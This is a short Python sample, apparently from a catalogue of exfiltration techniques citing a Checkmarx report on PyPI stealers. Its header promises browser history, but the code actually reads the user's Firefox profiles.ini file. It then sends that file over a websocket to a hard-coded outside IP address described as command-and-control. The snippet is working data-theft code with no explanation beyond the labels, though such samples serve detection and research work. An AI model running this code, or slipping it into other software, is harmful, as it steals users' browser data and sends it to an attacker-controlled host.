# technique: browser history shipped over a websocket
# class: exfiltration
# source: Checkmarx, PyPI stealers using websockets to a C2
# declares: network
import os

import websocket


def stream():
    hist = open(os.path.expanduser("~/.mozilla/firefox/profiles.ini"), "rb").read()
    ws = websocket.create_connection("ws://94.131.98.14:8765")
    ws.send_binary(hist)
